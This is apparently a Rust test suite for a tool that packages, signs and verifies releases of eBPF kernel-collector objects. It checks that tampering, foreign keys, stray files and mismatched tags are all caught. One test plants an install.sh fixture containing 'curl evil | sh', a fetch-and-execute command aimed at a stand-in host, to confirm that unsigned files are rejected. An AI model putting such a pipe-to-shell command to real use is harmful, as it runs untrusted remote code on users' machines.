use super::*;

const CORE: &[u8] = include_bytes!("../../../kc-verify/tests/data/mount.bpf.o");
const LEGACY: &[u8] = include_bytes!("../../../kc-verify/tests/data/rkc_mount.6.1.o");

/// Cells as `build` writes them, from our fixture objects.
fn cells(dir: &Path) -> PathBuf {
    let cells = dir.join("cells");
    let legacy = cells.join("kc-ebpf-6.1-glibc");
    let core = cells.join("kc-ebpf-co-re-glibc");
    std::fs::create_dir_all(&legacy).unwrap();
    std::fs::create_dir_all(&core).unwrap();
    std::fs::write(legacy.join("pkc_mount.6.1.o"), LEGACY).unwrap();
    std::fs::write(legacy.join("rkc_mount.6.1.o"), LEGACY).unwrap();
    std::fs::write(core.join("mount.bpf.o"), CORE).unwrap();
    std::fs::write(core.join("mount.skel.h"), b"/* skeleton */").unwrap();
    std::fs::write(core.join("kc-loader"), b"\x7fELF loader").unwrap();
    std::fs::write(
        core.join(BUILD_INFO),
        br#"{"libc":"glibc","toolchain":{"clang":"test"}}"#,
    )
    .unwrap();
    cells
}

/// The fixtures are amd64 cells.
const AMD64: [Arch; 1] = [Arch::Amd64];

fn key() -> (minisign::SecretKey, String) {
    crate::signing::throwaway_keypair().unwrap()
}

fn released(dir: &Path, sk: &minisign::SecretKey) -> PathBuf {
    let r = build_release("v1.2.3", &cells(dir), Some(sk), &AMD64).unwrap();
    let out = dir.join("release");
    write_release(&r, &out, "v1.2.3", false).unwrap();
    out
}

/// An arm64 cell beside the amd64 ones changes no byte of the release.
#[test]
fn another_architectures_cells_stay_out_of_the_release() {
    let (sk, _) = key();
    let d = tempfile::tempdir().unwrap();
    let amd64 = [Arch::Amd64];
    let plain = build_release("v1.2.3", &cells(d.path()), Some(&sk), &amd64).unwrap();
    let arm64 = d.path().join("cells/kc-ebpf-6.1-arm64-glibc");
    std::fs::create_dir_all(&arm64).unwrap();
    std::fs::write(arm64.join("pkc_mount.6.1.o"), LEGACY).unwrap();
    let with_arm64 = build_release("v1.2.3", &d.path().join("cells"), Some(&sk), &amd64).unwrap();
    // An arm64 release without arm64's CO-RE cell is refused, not made of amd64's.
    let e = build_release("v1.2.3", &d.path().join("cells"), Some(&sk), &[Arch::Arm64])
        .err()
        .unwrap()
        .to_string();
    assert!(
        e.contains("no CO-RE cell (kc-ebpf-co-re-arm64-glibc)") && e.contains("--arch arm64"),
        "{e}"
    );
    let names = |r: &Packaged| r.files.keys().cloned().collect::<Vec<_>>();
    assert_eq!(names(&with_arm64), names(&plain));
    for (name, bytes) in &plain.files {
        if !name.ends_with(".minisig") {
            assert_eq!(&with_arm64.files[name], bytes, "{name}");
        }
    }
}

#[test]
fn two_packages_are_identical_and_check() {
    let (sk, pk) = key();
    let d = tempfile::tempdir().unwrap();
    let a = build_release("v1.2.3", &cells(d.path()), Some(&sk), &AMD64).unwrap();
    let b = build_release("v1.2.3", &cells(d.path()), Some(&sk), &AMD64).unwrap();
    assert_eq!(a.files, b.files);
    // Two tarballs, kc-select, kc-exporter and the sums, each signed.
    assert_eq!(
        a.files.len(),
        10,
        "{:?}",
        a.files.keys().collect::<Vec<_>>()
    );
    let out = d.path().join("release");
    write_release(&a, &out, "v1.2.3", false).unwrap();
    let check = kc_common::release::check_release_dir(&out, &pk).unwrap();
    assert_eq!(check.tag.as_deref(), Some("v1.2.3"));
    let m =
        kc_common::release::check_tarball("x", &a.files["kernel-collector-glibc-v1.2.3.tar.xz"])
            .unwrap();
    assert_eq!(m.buckets, ["6.1"]);
    assert!(
        m.files.iter().any(|f| f.name == "kc-check-kernel.sh")
            && m.files.iter().any(|f| f.name == "kc-loader")
    );
    assert_eq!(m.toolchain["clang"], "test");
}

#[test]
fn the_real_tools_accept_the_release_needs_minisign() {
    if !process::exists("minisign") {
        eprintln!(
            "skipping: the minisign command is not installed (cargo xtask setup installs it)"
        );
        return;
    }
    let (sk, pk) = key();
    let d = tempfile::tempdir().unwrap();
    let out = released(d.path(), &sk);
    let pub_file = d.path().join("release.pub");
    std::fs::write(&pub_file, &pk).unwrap();
    let sh = process::shell_in(&out);
    for f in [
        "kernel-collector-glibc-v1.2.3.tar.xz",
        "kernel-collector-co-re-glibc-v1.2.3.tar.xz",
        "sha256sums.txt",
    ] {
        process::output(cmd!(sh, "minisign -Vm {f} -p {pub_file}")).unwrap();
    }
    process::output(cmd!(sh, "sha256sum -c sha256sums.txt")).unwrap();
    let listing = process::read(cmd!(sh, "tar -tJf kernel-collector-glibc-v1.2.3.tar.xz")).unwrap();
    assert!(listing.contains("rkc_mount.6.1.o"), "{listing}");
    assert_eq!(
        listing.lines().next(),
        Some("manifest.json"),
        "the manifest leads"
    );
}

/// An unsigned file beside a good release, and signatures that vouch for another tag than
/// the manifests carry, are both refused by name.
#[test]
fn extra_files_and_a_foreign_tag_are_refused() {
    let (sk, pk) = key();
    let d = tempfile::tempdir().unwrap();
    let out = released(d.path(), &sk);
    kc_common::release::check_release_dir(&out, &pk).unwrap();
    std::fs::write(out.join("install.sh"), b"curl evil | sh").unwrap();
    let e = kc_common::release::check_release_dir(&out, &pk)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("install.sh") && e.contains("no signed list"),
        "{e}"
    );
    std::fs::remove_file(out.join("install.sh")).unwrap();
    // Re-sign every file, bytes unchanged, as if for v9.9.9.
    let names: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.ends_with(".minisig"))
        .collect();
    for n in names {
        let data = std::fs::read(out.join(&n)).unwrap();
        let comment = release::trusted_comment("v9.9.9", &n);
        let sig = crate::signing::sign(&sk, &data, &comment, "test").unwrap();
        std::fs::write(out.join(format!("{n}.minisig")), sig).unwrap();
    }
    let e = kc_common::release::check_release_dir(&out, &pk)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("does not name") && e.contains("of v1.2.3"),
        "{e}"
    );
}

/// Packaging a tag removes another tag's files from the release directory.
#[test]
fn a_new_tag_leaves_no_older_files() {
    let (sk, _) = key();
    let d = tempfile::tempdir().unwrap();
    let c = cells(d.path());
    let out = d.path().join("release");
    let old = build_release("v1.2.3", &c, Some(&sk), &AMD64).unwrap();
    write_release(&old, &out, "v1.2.3", false).unwrap();
    let new = build_release("v1.2.4", &c, Some(&sk), &AMD64).unwrap();
    write_release(&new, &out, "v1.2.4", false).unwrap();
    let mut names: Vec<String> = std::fs::read_dir(&out)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    names.sort();
    let mut want: Vec<String> = new.files.keys().cloned().collect();
    want.sort();
    assert_eq!(names, want);
    assert!(names.iter().all(|n| !n.contains("v1.2.3")));
}

#[test]
fn tampering_is_caught_and_named() {
    let (sk, pk) = key();
    let d = tempfile::tempdir().unwrap();
    let out = released(d.path(), &sk);
    let tar = out.join("kernel-collector-glibc-v1.2.3.tar.xz");
    let good = std::fs::read(&tar).unwrap();
    let mut bad = good.clone();
    bad[good.len() / 2] ^= 1;
    std::fs::write(&tar, &bad).unwrap();
    let e = kc_common::release::check_release_dir(&out, &pk)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("kernel-collector-glibc-v1.2.3.tar.xz") && e.contains("SHA256 mismatch"),
        "{e}"
    );
    std::fs::write(&tar, &good).unwrap();
    // Signed by another key.
    let (other_sk, _) = key();
    let sig = crate::signing::sign(
        &other_sk,
        &good,
        &release::trusted_comment("v1.2.3", "kernel-collector-glibc-v1.2.3.tar.xz"),
        "x",
    )
    .unwrap();
    std::fs::write(
        out.join("kernel-collector-glibc-v1.2.3.tar.xz.minisig"),
        sig,
    )
    .unwrap();
    let e = kc_common::release::check_release_dir(&out, &pk)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("kernel-collector-glibc-v1.2.3.tar.xz") && e.contains("signature check failed"),
        "{e}"
    );
    // A truncated signature.
    let sums_sig = out.join("sha256sums.txt.minisig");
    let text = std::fs::read_to_string(&sums_sig).unwrap();
    std::fs::write(&sums_sig, &text[..text.len() / 3]).unwrap();
    let e = kc_common::release::check_release_dir(&out, &pk)
        .unwrap_err()
        .to_string();
    assert!(e.contains("sha256sums.txt.minisig"), "{e}");
}

#[test]
fn sums_listing_a_missing_file() {
    let (sk, pk) = key();
    let d = tempfile::tempdir().unwrap();
    let out = released(d.path(), &sk);
    std::fs::remove_file(out.join("kernel-collector-co-re-glibc-v1.2.3.tar.xz")).unwrap();
    let e = kc_common::release::check_release_dir(&out, &pk)
        .unwrap_err()
        .to_string();
    assert!(
        e.contains("kernel-collector-co-re-glibc-v1.2.3.tar.xz") && e.contains("missing"),
        "{e}"
    );
}

#[test]
fn a_failed_package_leaves_no_partial_file() {
    let (sk, _) = key();
    let d = tempfile::tempdir().unwrap();
    let r = build_release("v1.2.3", &cells(d.path()), Some(&sk), &AMD64).unwrap();
    let out = d.path().join("release");
    // A directory where sha256sums.txt must go makes the write fail midway.
    std::fs::create_dir_all(out.join("sha256sums.txt")).unwrap();
    assert!(write_release(&r, &out, "v1.2.3", false).is_err());
    for e in std::fs::read_dir(&out).unwrap().flatten() {
        let name = e.file_name().to_string_lossy().into_owned();
        if name == "sha256sums.txt" {
            continue;
        }
        let want = r
            .files
            .get(&name)
            .unwrap_or_else(|| panic!("stray file {name}"));
        assert_eq!(&std::fs::read(e.path()).unwrap(), want, "{name} is partial");
    }
}

#[test]
fn objects_that_differ_between_libcs_are_not_packaged() {
    let d = tempfile::tempdir().unwrap();
    let c = cells(d.path());
    let musl = c.join("kc-ebpf-co-re-musl");
    std::fs::create_dir_all(&musl).unwrap();
    for f in ["mount.bpf.o", "kc-loader"] {
        std::fs::copy(c.join("kc-ebpf-co-re-glibc").join(f), musl.join(f)).unwrap();
    }
    std::fs::write(musl.join("mount.skel.h"), b"/* another skeleton */").unwrap();
    std::fs::write(musl.join(BUILD_INFO), br#"{"libc":"musl"}"#).unwrap();
    let e = format!(
        "{:#}",
        build_release("v1.2.3", &c, None, &AMD64).err().unwrap()
    );
    assert!(
        e.contains("mount.skel.h differs between kc-ebpf-co-re-glibc and kc-ebpf-co-re-musl")
            && e.contains("nothing was packaged"),
        "{e}"
    );
}

#[test]
fn a_failing_object_is_not_packaged() {
    let d = tempfile::tempdir().unwrap();
    let c = cells(d.path());
    std::fs::write(c.join("kc-ebpf-6.1-glibc/pkc_mount.6.1.o"), b"").unwrap();
    let e = format!(
        "{:#}",
        build_release("v1.2.3", &c, None, &AMD64).err().unwrap()
    );
    assert!(
        e.contains("pkc_mount.6.1.o") && e.contains("nothing was packaged"),
        "{e}"
    );
}
